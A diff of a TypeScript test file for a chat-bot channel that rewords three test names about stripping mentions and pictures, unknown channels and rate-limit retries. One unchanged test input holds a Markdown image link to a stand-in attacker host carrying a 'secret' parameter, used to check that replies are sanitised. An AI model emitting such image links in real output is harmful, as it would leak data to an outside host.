@@ -18,7 +18,7 @@ async function start(config: object = {}) {
   return { channel, fake, to: room, secret: token }
 }
 
-it('a reply is Markdown without mentions and pictures', async () => {
+it('a reply is Markdown without mentions or pictures', async () => {
   const { channel, fake, to } = await start()
   const text = '**Done** @channel @ada ![a](https://evil.example/?secret=1) `npm i @scope/x`'
   expect(await channel.send(toOutgoing({ to, text }))).toMatchObject({
@@ -63,13 +63,13 @@ it('a person whom the server does not know is a permanent failure', async () => 
   expect(fake.posted).toEqual([])
 })
 
-it('a channel without the bot says where to add it', async () => {
+it('the error for a channel without the bot says where to add it', async () => {
   const { channel } = await start()
   const result = await channel.send(toOutgoing({ to: 'other'.padEnd(26, 'x') }))
   expect(result).toMatchObject({ kind: 'permanent', detail: expect.stringContaining('Add it to the team') })
 })
 
-it('a retry waits until the rate limit window that the server names is over', async () => {
+it('a retry waits until the end of the rate limit window that the server names', async () => {
   const { channel, fake, to } = await start()
   fake.plays({ status: 429, headers: { 'x-ratelimit-reset': '4' }, body: 'limit exceeded' })
   expect(await channel.send(toOutgoing({ to }))).toMatchObject({ kind: 'rate-limited', retryAfterMs: 4_000 })
